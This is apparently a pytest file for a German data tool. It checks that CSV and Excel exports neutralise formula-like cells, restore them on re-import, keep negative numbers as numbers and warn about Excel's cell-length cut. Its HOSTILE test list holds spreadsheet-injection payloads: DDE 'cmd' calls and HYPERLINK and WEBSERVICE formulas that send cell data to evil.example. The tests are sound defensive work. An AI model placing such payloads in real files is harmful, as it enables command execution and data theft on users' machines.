"""Exports are safe to open in Excel: formula-like text neutralised (and imported back
exactly), numbers stay numbers, Excel's limits are said in the file and on the console."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import fastexcel
import polars as pl
import pytest
from click.testing import CliRunner

from workbench.excel_safety import (
    EXCEL_MAX_CELL_CHARS,
    neutralise_cell,
    neutralise_frame,
    unneutralise_cell,
)
from workbench.observation import Observation
from workbench.observations_io import export_observations, import_observations
from workbench.store import ObservationStore

CATALOGUES = Path(__file__).parent / "data" / "store_catalogues"

HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1;"klick")',
    "@WEBSERVICE(\"http://evil.example\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=schon mit Apostroph",
    "''@zwei Apostrophe",
]


@pytest.fixture(autouse=True)
def catalogue_dir(monkeypatch):
    monkeypatch.setenv("WORKBENCH_CATALOGUE_DIR", str(CATALOGUES))


def _read_csv(path: Path) -> list[dict[str, str]]:
    text = path.read_bytes().decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=";"))


def test_neutralise_and_unneutralise_are_inverse():
    for text in [*HOSTILE, "harmlos", "'nur Apostroph", "'", "", "12,5", "a=b"]:
        out = neutralise_cell(text)
        assert unneutralise_cell(out) == text
        if text[:1] in ("=", "+", "-", "@", "\t", "\r"):
            assert out == "'" + text
    assert neutralise_cell(-3.5) == -3.5 and neutralise_cell(7) == 7
    assert neutralise_cell("harmlos") == "harmlos"
    frame = pl.DataFrame({"t": ["=1+1", "ok", None], "n": [-1.5, 2.0, None]})
    out = neutralise_frame(frame)
    assert out["t"].to_list() == ["'=1+1", "ok", None]
    assert out["n"].to_list() == [-1.5, 2.0, None]


def test_hostile_cells_neutralised_in_csv_and_reimported_exactly(tmp_path):
    store = ObservationStore(tmp_path / "a.sqlite")
    for i, text in enumerate(HOSTILE):
        store.record(Observation("teststadt", "erfahrungen", dt.date(2010 + i, 12, 31), None,
                                 note=text, entered_by="Test", source=f"Quelle {i}", comment=text))
    out = export_observations(tmp_path / "export.csv", store)
    rows = _read_csv(out)
    by_period = {r["Stichtag"]: r for r in rows}
    for i, text in enumerate(HOSTILE):
        row = by_period[f"31.12.{2010 + i}"]
        assert row["Notiz"] == "'" + text, text
        assert row["Kommentar"] == "'" + text
    # No cell of the file starts with a formula trigger any more.
    for row in rows:
        for value in row.values():
            assert value[:1] not in ("=", "+", "-", "@", "\t", "\r"), value

    # Re-import into an empty store: the original text comes back (importer strips the
    # apostrophe it added and, as always, surrounding whitespace).
    again = ObservationStore(tmp_path / "b.sqlite")
    import_observations(out, again, user="Test")
    notes = {r["period"].year: r for r in again.current().iter_rows(named=True)}
    for i, text in enumerate(HOSTILE):
        assert notes[2010 + i]["note"] == text.strip()
        assert notes[2010 + i]["comment"] == text.strip()
    # ...and re-importing into the original store changes nothing but the two values whose
    # leading tab/CR the importer trims (as it does for any cell).
    changed = sum(1 for t in HOSTILE if t != t.strip())
    assert import_observations(out, store, user="Test").new_versions == changed == 2


def test_negative_numbers_stay_numbers(tmp_path):
    store = ObservationStore(tmp_path / "n.sqlite", validate=False)
    store.record(Observation("teststadt", "anzahl-kurse", dt.date(2025, 12, 31), -3.5,
                             entered_by="T", source="-Quelle"))
    row = _read_csv(export_observations(tmp_path / "n.csv", store))[0]
    assert row["Wert"] == "-3,5"  # a number, not prefixed
    assert row["Quelle"] == "'-Quelle"  # text starting with "-" is neutralised
    assert row["Version"] == "1"


def test_long_note_is_cut_in_xlsx_with_note_and_console_warning(tmp_path):
    store = ObservationStore(tmp_path / "l.sqlite")
    long_note = "x" * 100_000
    store.record(Observation("teststadt", "erfahrungen", dt.date(2025, 12, 31), None,
                             note=long_note, entered_by="Test", source="Bericht"))
    notices: list[str] = []
    out = export_observations(tmp_path / "l.xlsx", store, notices=notices)
    reader = fastexcel.read_excel(out)
    assert "Gekürzt" in reader.sheet_names
    sheet = reader.load_sheet("Aktuelle Werte", header_row=None, dtypes="string",
                              skip_rows=0).to_polars()  # keeps blank rows: Excel numbering
    cells = [c for row in sheet.iter_rows() for c in row if c]
    note_cell = next(c for c in cells if c.startswith("xxx"))
    assert len(note_cell) == EXCEL_MAX_CELL_CHARS
    assert note_cell.endswith("[gekürzt]")
    banner = next(c for c in cells if c.startswith("Gekürzt"))
    assert "Spalte „Notiz“" in banner and "100.000 Zeichen" in banner
    # The row named in the note is the row that holds the cut cell (Excel numbering).
    excel_row = next(i for i, row in enumerate(sheet.iter_rows(), 1) if note_cell in row)
    assert f"Zeile {excel_row}," in banner
    listing = reader.load_sheet("Gekürzt", header_row=None, dtypes="string").to_polars()
    assert any("100.000 Zeichen" in (c or "") for c in listing.to_series(0).to_list())
    text = "\n".join(notices)
    assert "Warnung" in text and "gekürzt" in text
    assert f"Zeile {excel_row}, Spalte „Notiz“" in text

    # The CSV keeps the whole text (it is the re-import format) and warns only on the console.
    csv_notices: list[str] = []
    csv_out = export_observations(tmp_path / "l.csv", store, notices=csv_notices)
    assert _read_csv(csv_out)[0]["Notiz"] == long_note
    assert csv_notices and "Excel zeigt beim Öffnen aber nur einen Teil" in csv_notices[0]


def test_cli_export_warns_about_the_cut(tmp_path):
    from workbench.cli import main

    db = tmp_path / "c.sqlite"
    store = ObservationStore(db)
    store.record(Observation("teststadt", "erfahrungen", dt.date(2025, 12, 31), None,
                             note="y" * 40_000, entered_by="Test", source="Bericht"))
    store.close()
    result = CliRunner().invoke(main, ["export-observations", "--out",
                                       str(tmp_path / "c.xlsx"), "--db", str(db)])
    assert result.exit_code == 0, result.output
    assert "Warnung: in c.xlsx wurde für Excel gekürzt" in result.output
    assert "Spalte „Notiz“: 40.000 Zeichen" in result.output


def test_dashboard_csv_download_is_neutralised():
    from workbench.tabular_write import frame_csv_bytes as _csv_bytes  # the dashboard's CSV

    frame = pl.DataFrame({"Gemeinde": ["=HYPERLINK(\"x\")", "Sachsenheim"],
                          "Veränderung": [-1.25, 2.0]})
    text = _csv_bytes(frame, "Quelle: Test").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert rows[1] == ["'=HYPERLINK(\"x\")", "-1,25"]  # negative number stays a number
    assert rows[2] == ["Sachsenheim", "2,00"]
